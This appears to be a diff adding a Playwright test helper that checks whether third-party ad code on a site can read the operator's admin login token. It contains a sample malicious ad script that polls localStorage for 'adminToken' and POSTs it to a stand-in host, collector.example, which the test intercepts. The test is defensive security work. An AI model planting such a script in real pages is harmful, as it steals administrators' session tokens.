@@ -1,0 +1,47 @@
+import { type BrowserContext, expect, type Page } from '@playwright/test'
+import { OPERATOR, type Site } from './running-site.ts'
+
+/** Switches an advertisement on. */
+export const setAd = (site: Site, adCode: string, isSandboxed = false) =>
+  site.query(
+    `INSERT INTO ad_zones (zone_id, zone_name, ad_code, is_active, is_sandboxed) VALUES ('zone1', 'Ad Zone 1', $1, true, $2)
+     ON CONFLICT (zone_id) DO UPDATE SET (ad_code, is_sandboxed) = ROW (excluded.ad_code, excluded.is_sandboxed)`,
+    [adCode, isSandboxed],
+  )
+
+export const adOn = (page: Page) => page.getByRole('complementary', { name: 'Advertisement' })
+export const linkTo = (page: Page, path: string) =>
+  page.getByRole('navigation', { name: 'Main' }).locator(`[href="${path}"]`)
+
+/** Ad code that looks for the operator's login again and again; what it finds is told elsewhere. */
+const SPY = `<p>Spy</p><script>
+  setInterval(() => {
+    let found
+    try { found = String(localStorage.getItem('adminToken')) } catch (error) { found = error.name }
+    fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: found })
+  }, 50)
+</script>`
+
+/** What an ad finds in one tab while the operator logs in in another, at `adm`. */
+export const spyOnLogin = async (page: Page, { site, adm }: { site: Site; adm: string }) => {
+  const found: (string | null)[] = []
+  const context: BrowserContext = page.context()
+  await context.route('https://collector.example/**', (route) => {
+    found.push(route.request().postData())
+    return route.fulfill({ body: '' })
+  })
+  await setAd(site, SPY)
+  await page.goto('/')
+  await adOn(page).scrollIntoViewIfNeeded()
+  const finds = () => expect.poll(() => found.length).toBeGreaterThan(found.length + 1)
+  await finds()
+  const other = await context.newPage()
+  await other.goto(adm)
+  await other.getByLabel('Username').fill(OPERATOR.username)
+  await other.getByLabel('Password').fill(OPERATOR.password)
+  await other.getByRole('button', { name: 'Login' }).click()
+  await expect(other).toHaveURL(/\/adm\/media$/)
+  await finds()
+  expect(await other.evaluate(() => localStorage.getItem('adminToken'))).not.toBeNull()
+  return [...new Set(found)]
+}
